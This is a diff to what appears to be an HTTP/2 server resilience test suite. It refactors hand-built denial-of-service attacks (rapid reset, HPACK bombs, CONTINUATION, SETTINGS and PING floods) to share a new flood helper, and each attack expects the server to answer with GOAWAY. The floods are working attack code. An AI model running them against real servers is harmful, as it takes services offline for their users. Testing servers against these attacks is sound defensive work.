@@ -45,6 +45,7 @@ from pathlib import Path
 
 sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "support"))
 import bench_server_process  # noqa: E402
+from bench_server_process import Check  # noqa: E402
 
 try:
     import h2.config
@@ -72,20 +73,6 @@ ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONT
           5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR",
           10: "CONNECT_ERROR", 11: "ENHANCE_YOUR_CALM", 12: "INADEQUATE_SECURITY", 13: "HTTP_1_1_REQUIRED"}
 
-
-class Check:
-    def __init__(self, label):
-        self.label = label
-        self.passed = 0
-        self.failed = 0
-
-    def __call__(self, name, ok, seen):
-        print(f"{'PASS' if ok else 'FAIL'} {self.label} {name}: {seen}", flush=True)
-        if ok:
-            self.passed += 1
-        else:
-            self.failed += 1
-        return ok
 
 
 # --- Frames by hand ---------------------------------------------------------------------------------------------------
@@ -188,6 +175,13 @@ class Attacker:
         except (OSError, ssl.SSLError):  # a timeout, or the server closed or reset the connection
             self.stalled = True
         return False
+
+    def flood(self, writes, stop, read=True):
+        """Sends each of `writes` until the server stops taking them or `stop` is set (the RSS bound was passed);
+        with `read`, reads what came back after each, so that only the attack, not the answers, fills the socket."""
+        for data in writes:
+            if stop.is_set() or not self.send(data) or (read and not self.poll()):
+                return
 
     def poll(self):
         """Reads what has arrived, without waiting; True while the connection is open and takes what is sent."""
@@ -376,15 +370,8 @@ class Bystander:
 def rapid_reset(target, stop):
     """HEADERS then RST_STREAM(CANCEL), 20,000 times, 100 pairs a write, on requests that make the server wait."""
     conn = Attacker(target.port)
-    stream = 1
-    for _ in range(200):
-        batch = b""
-        for _ in range(100):
-            batch += headers_frame(stream, target.work_path)
-            batch += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
-            stream += 2
-        if stop.is_set() or not conn.send(batch) or not conn.poll():
-            break
+    conn.flood((b"".join(headers_frame(s, target.work_path) + frame(RST_STREAM, 0, s, struct.pack(">I", 8))
+                         for s in range(first, first + 200, 2)) for first in range(1, 40000, 200)), stop)
     return conn, goaway({"ENHANCE_YOUR_CALM"})
 
 
@@ -394,26 +381,16 @@ def hpack_reference_bomb(target, stop):
     conn = Attacker(target.port)
     literal = b"\x40" + _string(b"x-bomb1") + _string(b"a" * 4000)  # incremental indexing, new name
     conn.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, request_block(target.work_path) + literal))
-    bomb = b"\xbe" * 16000  # 0x80 | 62: the dynamic table's newest entry
-    stream = 3
-    for _ in range(50):
-        block = request_block(target.work_path) + bomb
-        if stop.is_set() or not conn.send(header_block(stream, block)) or not conn.poll():
-            break
-        stream += 2
+    bomb = request_block(target.work_path) + b"\xbe" * 16000  # 0x80 | 62: the dynamic table's newest entry
+    conn.flood((header_block(stream, bomb) for stream in range(3, 103, 2)), stop)
     return conn, goaway({"ENHANCE_YOUR_CALM", "COMPRESSION_ERROR"})
 
 
 def hpack_many_headers(target, stop):
     """Blocks of 4,000 distinct small literal headers (each "x-h-N: v", never indexed), stream after stream."""
     conn = Attacker(target.port)
-    stream = 1
-    for _ in range(50):
-        block = request_block(target.work_path)
-        block += b"".join(_literal(f"x-h-{i}".encode(), b"v") for i in range(4000))
-        if stop.is_set() or not conn.send(header_block(stream, block)) or not conn.poll():
-            break
-        stream += 2
+    block = request_block(target.work_path) + b"".join(_literal(f"x-h-{i}".encode(), b"v") for i in range(4000))
+    conn.flood((header_block(stream, block) for stream in range(1, 101, 2)), stop)
     return conn, goaway({"ENHANCE_YOUR_CALM", "COMPRESSION_ERROR"})
 
 
@@ -431,9 +408,7 @@ def continuation_flood(target, stop):
     conn = Attacker(target.port)
     conn.send(frame(HEADERS, END_STREAM, 1, request_block(target.work_path)))
     piece = b"".join(_literal(f"x-c-{i}".encode(), b"c" * 1000) for i in range(16))
-    for _ in range(200):
-        if stop.is_set() or not conn.send(frame(CONTINUATION, 0, 1, piece) * 100) or not conn.poll():
-            break
+    conn.flood([frame(CONTINUATION, 0, 1, piece) * 100] * 200, stop)
     return conn, goaway({"ENHANCE_YOUR_CALM", "COMPRESSION_ERROR"})
 
 
@@ -441,30 +416,21 @@ def continuation_flood_empty(target, stop):
     """HEADERS without END_HEADERS, then 200,000 empty CONTINUATION frames: no header grows, only the frame count."""
     conn = Attacker(target.port)
     conn.send(frame(HEADERS, END_STREAM, 1, request_block(target.work_path)))
-    empty = frame(CONTINUATION, 0, 1) * 1000
-    for _ in range(200):
-        if stop.is_set() or not conn.send(empty) or not conn.poll():
-            break
+    conn.flood([frame(CONTINUATION, 0, 1) * 1000] * 200, stop)
     return conn, goaway({"ENHANCE_YOUR_CALM", "PROTOCOL_ERROR"})
 
 
 def settings_flood(target, stop):
     """200,000 SETTINGS frames (each with one setting, each to be acknowledged), acknowledgements never read."""
     conn = Attacker(target.port)
-    flood = settings((SETTINGS_HEADER_TABLE_SIZE, 4096)) * 1000
-    for _ in range(200):
-        if stop.is_set() or not conn.send(flood):
-            break
+    conn.flood([settings((SETTINGS_HEADER_TABLE_SIZE, 4096)) * 1000] * 200, stop, read=False)
     return conn, goaway({"ENHANCE_YOUR_CALM"})
 
 
 def ping_flood(target, stop):
     """200,000 PING frames, their acknowledgements never read."""
     conn = Attacker(target.port)
-    flood = frame(PING, 0, 0, b"12345678") * 1000
-    for _ in range(200):
-        if stop.is_set() or not conn.send(flood):
-            break
+    conn.flood([frame(PING, 0, 0, b"12345678") * 1000] * 200, stop, read=False)
     return conn, goaway({"ENHANCE_YOUR_CALM"})
 
 
